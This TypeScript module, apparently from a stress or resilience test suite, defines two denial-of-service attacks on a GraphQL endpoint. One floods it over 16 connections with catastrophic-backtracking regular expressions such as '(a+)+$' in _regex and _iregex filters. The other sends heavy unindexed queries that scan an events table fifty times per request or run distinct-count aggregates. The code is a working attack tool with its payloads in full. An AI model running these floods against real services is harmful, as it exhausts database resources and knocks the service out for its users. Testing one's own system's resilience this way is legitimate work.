import type { Attack } from "./attack.ts";
import { startFlood } from "./flood.ts";

const CONNECTIONS = 16;
const JSON_TYPE = { "content-type": "application/json" };

/** GraphQL query that selects all rows of a table fifty times, without database index support. */
const fifty = (field: (index: number) => string): string => `{ ${Array.from({ length: 50 }, (_, index) => field(index)).join(" ")} }`;
const eventsMatching = (operator: string, pattern: string): string =>
  `(where: {data: {_cast: {String: {${operator}: ${JSON.stringify(pattern)}}}}}) { type }`;

/** GraphQL queries with regular expressions that are either rejected, or run until the engine's limit. */
const PATTERNS = [
  `{ events${eventsMatching("_regex", "(0(?=.*x|.*0))*z")} }`,
  `{ events${eventsMatching("_regex", "(a+)+$")} }`,
  `{ events${eventsMatching("_regex", "[0-9a-f]*a[0-9a-f]{240}z")} }`,
  `{ events${eventsMatching("_iregex", "(a|b|c|d|e|f)*[0-9]{200}z")} }`,
  `{ events${eventsMatching("_ilike", `%${"0_".repeat(100)}z%`)} }`,
];
const HEAVY = [
  fifty((index) => `a${index}: events${eventsMatching("_ilike", `%z${index}%`)}`),
  fifty((index) => `a${index}: events(order_by: {data: asc}, offset: ${index}, limit: 100) { data }`),
  "{ account_transactions_aggregate { aggregate { count(columns: [account_address, transaction_version], distinct: true) } } }",
];

function floodOf(name: string, queries: readonly string[]): Attack {
  const bodies = queries.map((query) => JSON.stringify({ query }));
  return {
    name,
    async start({ graphqlUrl }) {
      let sent = 0;
      return startFlood({
        connections: CONNECTIONS,
        next: () => ({ url: graphqlUrl, headers: JSON_TYPE, body: bodies[sent++ % bodies.length] ?? "" }),
      });
    },
  };
}

/** Attack by regular expressions that would occupy the database engine without limit. */
export const hostilePatterns: Attack = floodOf("hostile patterns in GraphQL", PATTERNS);

/** Attack by GraphQL queries that use up any time limit. */
export const heavyQueries: Attack = floodOf("heavy queries in GraphQL", HEAVY);
export const HEAVY_QUERY: string = HEAVY[0] ?? "";
